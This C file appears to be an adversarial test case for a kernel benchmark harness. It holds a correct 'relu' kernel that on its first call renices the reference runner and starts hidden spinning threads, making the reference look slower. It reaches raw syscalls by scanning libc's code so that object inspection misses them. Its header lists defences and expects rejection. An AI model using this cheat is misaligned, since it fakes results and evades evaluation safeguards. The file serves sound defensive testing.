/*
 * renice_hog.c - a timing attack on the *reference runner*, in pure C
 * (allowed headers, no asm, no forbidden symbol): raw system calls go
 * through libc's own syscall() found by scanning libc's text (see
 * gadget_fork.c). On its first call the kernel
 *   1. lowers the priority of the reference runner: it tries
 *      setpriority(PRIO_PROCESS, pid, 19) on the pids just below its own
 *      that belong to its own session (getsid) and stops at the first that
 *      succeeds, i.e. the nearest process of the same uid started by the
 *      same kevo: this evaluation's reference runner (both runners run as
 *      the same sandbox uid, so this is allowed; the session check keeps
 *      other people's evaluations on a shared machine out of it);
 *   2. starts one spinning thread per CPU with a raw clone(CLONE_THREAD)
 *      whose child "returns" into the spin loop through a return address
 *      planted on its new stack (no pthread_create, nothing for the
 *      object inspection to see).
 * The candidate's own calls compete with the spinners at equal weight; the
 * reniced reference gets almost no CPU while they spin, so it looks many
 * times slower. The kernel's answers are correct.
 * Defences: candidate and reference under different uids (setpriority,
 * sched_setaffinity... on another uid fail), seccomp limits on
 * setpriority/sched_* for other pids, stopping (SIGSTOP) the candidate's
 * process group while the reference is timed, checking the reference's
 * nice value / CPU time.
 * Expected (both modes): anything but a fast `correct`.
 */
#include <stddef.h>
#include <stdint.h>
#include <string.h>

/* ---- gadget locator: finds libc's syscall() without naming it ----
 * &memcpy (an allowed symbol) points into libc's text. Walk back page by
 * page (libc's segments are contiguous) to libc's ELF header, read its
 * program headers, and search the executable segment for the machine code
 * of glibc's syscall(): mov %rdi,%rax; mov %rsi,%rdi; mov %rdx,%rsi;
 * mov %rcx,%rdx; mov %r8,%r10; mov %r9,%r8; mov 8(%rsp),%r9; syscall. */
typedef long (*kv_sysfn)(long, long, long, long, long, long, long);

static kv_sysfn kv_find_syscall(void)
{
    static const unsigned char pat[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6,
                                        0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8,
                                        0x4c, 0x8b, 0x4c, 0x24, 0x08, 0x0f, 0x05};
    void *(*volatile anchor)(void *, const void *, size_t) = memcpy;
    uintptr_t p = (uintptr_t)anchor & ~(uintptr_t)4095;
    int found = 0;
    for (int i = 0; i < 8192; i++, p -= 4096) {
        const unsigned char *h = (const unsigned char *)p;
        if (h[0] == 0x7f && h[1] == 'E' && h[2] == 'L' && h[3] == 'F') {
            found = 1;
            break;
        }
    }
    if (!found)
        return 0;
    const unsigned char *base = (const unsigned char *)p;
    uint64_t phoff;
    uint16_t phentsize, phnum;
    memcpy(&phoff, base + 32, 8);
    memcpy(&phentsize, base + 54, 2);
    memcpy(&phnum, base + 56, 2);
    for (unsigned k = 0; k < phnum; k++) {
        const unsigned char *ph = base + phoff + (uint64_t)k * phentsize;
        uint32_t type, flags;
        uint64_t vaddr, memsz;
        memcpy(&type, ph, 4);
        memcpy(&flags, ph + 4, 4);
        memcpy(&vaddr, ph + 16, 8);
        memcpy(&memsz, ph + 40, 8);
        if (type != 1 /* PT_LOAD */ || !(flags & 1) /* PF_X */ || memsz < sizeof(pat))
            continue;
        const unsigned char *text = base + vaddr;
        for (uint64_t off = 0; off + sizeof(pat) <= memsz; off++)
            if (text[off] == 0x48 && memcmp(text + off, pat, sizeof(pat)) == 0)
                return (kv_sysfn)(uintptr_t)(text + off);
    }
    return 0;
}
/* ---- end of gadget locator ---- */

#define MAX_HOGS 16
#define HOG_STACK 16384

static unsigned char hog_stacks[MAX_HOGS][HOG_STACK] __attribute__((aligned(64)));

static void kv_hog(void)
{
    for (;;)
        for (volatile int i = 0; i < 100000; i++)
            ;
}

static void attack(void)
{
    kv_sysfn sys = kv_find_syscall();
    if (!sys)
        return;
    long self = sys(39 /* getpid */, 0, 0, 0, 0, 0, 0);
    long sid = sys(124 /* getsid */, 0, 0, 0, 0, 0, 0);
    for (long pid = self - 1; pid > 1 && pid > self - 4000; pid--)
        if (sys(124 /* getsid */, pid, 0, 0, 0, 0, 0) == sid &&
            sys(141 /* setpriority */, 0 /* PRIO_PROCESS */, pid, 19, 0, 0, 0) == 0)
            break;
    unsigned char mask[128];
    memset(mask, 0, sizeof(mask));
    long n = sys(204 /* sched_getaffinity */, 0, sizeof(mask), (long)mask, 0, 0, 0);
    int cpus = 0;
    for (long i = 0; i < n && i < (long)sizeof(mask); i++)
        cpus += __builtin_popcount(mask[i]);
    if (cpus < 1)
        cpus = 2;
    if (cpus > MAX_HOGS)
        cpus = MAX_HOGS;
    for (int k = 0; k < cpus; k++) {
        /* 16-aligned slot holding the address the child thread "returns" to */
        uint64_t *top = (uint64_t *)(void *)(hog_stacks[k] + HOG_STACK) - 2;
        top[0] = (uint64_t)(uintptr_t)kv_hog;
        sys(56 /* clone */, 0x50f00 /* VM|FS|FILES|SIGHAND|THREAD|SYSVSEM */, (long)top, 0, 0, 0, 0);
    }
}

void relu(const float *x, float *y, int64_t N)
{
    static int started;
    if (!started) {
        started = 1;
        attack();
    }
    for (int64_t i = 0; i < N; i++)
        y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
